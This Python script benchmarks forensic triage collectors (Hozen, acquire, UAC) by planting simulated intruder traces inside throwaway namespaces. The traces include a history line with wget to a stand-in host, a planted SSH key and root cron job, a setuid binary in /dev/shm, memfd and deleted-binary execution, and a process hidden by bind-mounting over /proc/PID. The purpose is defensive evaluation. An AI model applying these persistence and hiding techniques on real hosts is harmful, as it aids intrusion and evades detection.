#!/usr/bin/env python3
"""Hozen's triage beside acquire, and UAC, on one machine in one run: [UAC=FOLDER] beside.py HOZEN ACQUIRE [FOLDER]

Plants what an intruder leaves (in a mount and a network namespace of its own), lets each collect it one after the other, and prints wall
time, CPU time, bytes written and read, and which traces each has; and all of it once more, for in the first round whoever comes first
reads from the disk what the others find in memory. A trace is found where what it left stands in
the output, whatever it is called there. Needs root. What is started is ended, and what is planted vanishes with the namespaces.

The root that they see is that of a server: what the distribution and its daemons have put on this machine, with empty homes and an empty
/tmp. Where a developer's builds lie is no part of it. There is no network. UAC (`./uac -p ir_triage`) executes hundreds of the machine's
programs and gets 20 minutes.
"""

import ctypes
import gzip
import json
import os
import pathlib
import resource
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
from collections.abc import Callable, Iterator
from typing import BinaryIO

PORT = 47111
MARK = "trace-of-an-intruder"
LIMIT = 20 * 60
LIBC = ctypes.CDLL(None, use_errno=True)

# Of linux/sched.h and sys/mount.h.
CLONE_NEWNS, CLONE_NEWNET = 0x20000, 0x40000000
MS_BIND, MS_REC, MS_PRIVATE, MNT_DETACH = 0x1000, 0x4000, 1 << 18, 2


def checked(result: int) -> int:
    """The result of a call of libc; an error is raised."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def mount(kind: str | None, source: str, point: str, flags: int = 0) -> None:
    """mount(2)."""
    checked(LIBC.mount(source.encode(), point.encode(), kind.encode() if kind else None, flags, None))


def bind(root: pathlib.Path, path: pathlib.Path, flags: int = 0) -> None:
    """Shows the folder `path` at the same place below `root`."""
    point = root / path.relative_to("/")
    point.mkdir(parents=True, exist_ok=True)
    mount(None, str(path), str(point), MS_BIND | flags)


def enter_root(base: pathlib.Path, tools: list[pathlib.Path]) -> None:
    """From now on this process sees a root of its own."""
    checked(LIBC.unshare(CLONE_NEWNS | CLONE_NEWNET))
    mount(None, "none", "/", MS_REC | MS_PRIVATE)
    # Not below `base`, which is removed at the end with all that is in it.
    root = pathlib.Path("/mnt")
    mount("tmpfs", "none", str(root))
    root.chmod(0o755)
    for path in (pathlib.Path("/") / name for name in ("bin", "sbin", "lib", "lib32", "lib64", "boot", "etc", "opt", "srv", "usr", "var")):
        if path.is_symlink():
            (root / path.name).symlink_to(os.readlink(path))
        elif path.is_dir():
            bind(root, path)
    for name in ("dev", "proc", "run", "sys"):
        bind(root, pathlib.Path("/") / name, MS_REC)
    for name, mode in (("home", 0o755), ("mnt", 0o755), ("root", 0o700), ("tmp", 0o1777)):
        (root / name).mkdir()
        (root / name).chmod(mode)
    # A Python that is not the distribution's, too.
    for path in [base, *tools]:
        if not path.is_relative_to("/usr") and not path.is_relative_to("/var"):
            bind(root, path)
    checked(LIBC.pivot_root(str(root).encode(), str(root / "mnt").encode()))
    os.chdir("/")
    checked(LIBC.umount2(b"/mnt", MNT_DETACH))


def marked(path: pathlib.Path, mark: str) -> None:
    """A program that sleeps, with a mark at its end."""
    shutil.copy("/bin/sleep", path)
    with open(path, "ab") as file:
        file.write(f"{MARK}-{mark}".encode())
    path.chmod(0o755)


def plant(folder: pathlib.Path, processes: list[int]) -> None:
    """Plants everything; notes the processes."""
    home = pathlib.Path("/home/intruded")
    for point in ("/home", "/var/log", "/var/spool", "/dev/shm"):
        mount("tmpfs", "none", point)
    (home / ".ssh").mkdir(parents=True)
    (home / ".bash_history").write_text(f"wget http://{MARK}-history/x\n")
    (home / ".ssh/authorized_keys").write_text(f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl {MARK}-key\n")
    pathlib.Path("/var/spool/cron/crontabs").mkdir(parents=True)
    pathlib.Path("/var/spool/cron/crontabs/root").write_text(f"* * * * * /tmp/{MARK}-cron\n")
    pathlib.Path("/var/log/auth.log").write_text(f"Nov 28 12:00:00 h sshd[1]: Accepted publickey for {MARK}-log\n")
    marked(pathlib.Path(f"/dev/shm/{MARK}-setuid"), "setuid-content")
    os.chmod(f"/dev/shm/{MARK}-setuid", 0o4755)

    def start(arguments: list[str], environment: dict[str, str] | None = None, **more: object) -> subprocess.Popen:
        process = subprocess.Popen(arguments, env={**os.environ, **(environment or {})}, stdout=subprocess.DEVNULL, **more)
        processes.append(process.pid)
        return process

    deleted = folder / "deleted"
    marked(deleted, "deleted")
    start([str(deleted), "3600"], {"PLANTED": f"{MARK}-environment"})
    memfd = os.memfd_create("x")
    marked(folder / "of-memfd", "memfd")
    os.write(memfd, (folder / "of-memfd").read_bytes())
    start(["x", "3600"], executable=f"/proc/self/fd/{memfd}", pass_fds=[memfd])
    named = subprocess.Popen([f"{MARK}-hidden", "3600"], executable="/bin/sleep")
    processes.append(named.pid)
    listener = (
        "import ctypes,socket,time;ctypes.CDLL(None).unshare(0x40000000);s=socket.socket();"
        f"s.bind(('0.0.0.0',{PORT}));s.listen();time.sleep(3600)"
    )
    start([sys.executable, "-c", listener])
    time.sleep(1)
    deleted.unlink()
    (folder / "of-memfd").unlink()
    os.close(memfd)
    empty = folder / "empty"
    empty.mkdir()
    mount(None, str(empty), f"/proc/{named.pid}", MS_BIND)


TRACES = {
    "command in a history": f"{MARK}-history",
    "key that opens": f"{MARK}-key",
    "job of cron": f"{MARK}-cron",
    "line of a log": f"{MARK}-log",
    "set-user-id program in /dev/shm": f"{MARK}-setuid",
    "environment of a process": f"{MARK}-environment",
    "content of a deleted program": f"{MARK}-deleted",
    "content of a program in a memfd": f"{MARK}-memfd",
    "process under a bind mount over /proc/PID": f"{MARK}-hidden",
}


def measure(arguments: list[str], folder: pathlib.Path) -> dict:
    """Runs a collector."""
    before, began = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic()
    process = subprocess.Popen(arguments, cwd=folder, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
    try:
        _, said = process.communicate(timeout=LIMIT)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        _, said = process.communicate()
        said += b"ended after the time limit"
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime + after.ru_stime) - (before.ru_utime + before.ru_stime)
    # Blocks of 512 bytes that went to and came from disks on account of the program and what it started (getrusage(2)).
    written, read = after.ru_oublock - before.ru_oublock, after.ru_inblock - before.ru_inblock
    return {"code": process.returncode, "wall_s": round(time.monotonic() - began, 1), "cpu_s": round(cpu, 1),
            "written_mib": written >> 11, "read_mib": read >> 11, "said": said[-300:].decode(errors="replace")}


def streams(folder: pathlib.Path) -> Iterator[BinaryIO]:
    """The plain bytes of all that a collector wrote: of what is compressed, and of what is compressed in an archive, what is in it."""
    for path in sorted(folder.rglob("*")):
        if not path.is_file() or path.is_symlink():
            continue
        if path.suffix == ".zst":
            with subprocess.Popen(["zstd", "-dcq", path], stdout=subprocess.PIPE) as plain:
                yield plain.stdout
        elif path.name.endswith(".tar.gz"):
            yield from members(path)
        else:
            with open(path, "rb") as file:
                yield gzip.GzipFile(fileobj=file) if path.suffix == ".gz" else file


def members(path: pathlib.Path) -> Iterator[BinaryIO]:
    """The plain bytes of the files in an archive, as far as it goes."""
    try:
        with tarfile.open(path, "r:gz") as archive:
            for member in archive:
                if member.isreg() and (file := archive.extractfile(member)):
                    yield gzip.GzipFile(fileobj=file) if member.name.endswith(".gz") else file
    except (EOFError, OSError, tarfile.TarError) as error:
        print(f"{path.name}: {error}", file=sys.stderr)


def found(folder: pathlib.Path) -> dict[str, bool]:
    """Which traces are in the output."""
    listener = [b'"local_port":%d' % PORT, b":%04X 00000000:0000 0A" % PORT, b"0.0.0.0:%d " % PORT]
    wanted = {name: [mark.encode()] for name, mark in TRACES.items()} | {"listener in another network namespace": listener}
    got = dict.fromkeys(wanted, False)
    for stream in streams(folder):
        kept = b""
        try:
            while piece := stream.read(1 << 22):
                window = kept + piece
                for name, marks in wanted.items():
                    got[name] = got[name] or any(mark in window for mark in marks)
                kept = window[-256:]
        except (EOFError, OSError, tarfile.TarError):
            # A compressed file of the host may be damaged, or cut off while it was written.
            continue
    return got


def size(folder: pathlib.Path) -> int:
    """Bytes of all files below a folder."""
    return sum(path.stat().st_size for path in folder.rglob("*") if path.is_file())


def run(command: list[str], to: pathlib.Path, folder: pathlib.Path) -> dict:
    """What came of one collector, whose output is gone before the next one looks at the machine."""
    done = measure(command, folder)
    print(json.dumps(done), file=sys.stderr)
    told = {**done, "output_mib": size(to) >> 20, "found": found(to)}
    shutil.rmtree(to)
    return told


def collectors(base: pathlib.Path, hozen: pathlib.Path, acquire: pathlib.Path, uac: pathlib.Path | None) -> dict[str, Callable[[], dict]]:
    """Each with what runs it."""
    to = {name: base / name for name in ("hozen", "acquire", "uac")}
    commands = {
        "hozen": ([hozen, "collect", "--memory", "off", "--case", "BESIDE", "--to", to["hozen"]], base),
        "acquire": ([acquire, "-p", "full", "--volatile-profile", "default", "--fallback", "-ot", "tar", "-o", to["acquire"], "local"], base),
    }
    if uac:
        commands["uac"] = ([uac / "uac", "-p", "ir_triage", to["uac"]], uac)

    def one(name: str) -> dict:
        command, folder = commands[name]
        if name != "hozen":
            to[name].mkdir()
        return run([str(argument) for argument in command], to[name], folder)

    return {name: lambda name=name: one(name) for name in commands}


def main() -> None:
    hozen, acquire = (pathlib.Path(given).absolute() for given in sys.argv[1:3])
    uac = pathlib.Path(os.environ["UAC"]).absolute() if os.environ.get("UAC") else None
    base = pathlib.Path(tempfile.mkdtemp(prefix="beside-", dir=sys.argv[3] if len(sys.argv) > 3 else "/var/tmp"))
    results: dict = {}
    processes: list[int] = []
    try:
        # A copy, as on a host that a responder comes to; acquire and UAC stay where they are.
        shutil.copy(hozen, base / "program")
        enter_root(base, [acquire.parents[1], pathlib.Path(sys.base_prefix), *([uac] if uac else [])])
        plant(base, processes)
        for round in ("first", "again"):
            results[round] = {name: collect() for name, collect in collectors(base, base / "program", acquire, uac).items()}
    finally:
        for pid in processes:
            os.kill(pid, signal.SIGKILL)
        shutil.rmtree(base, ignore_errors=True)
    print(json.dumps(results, indent=1))


if __name__ == "__main__":
    main()
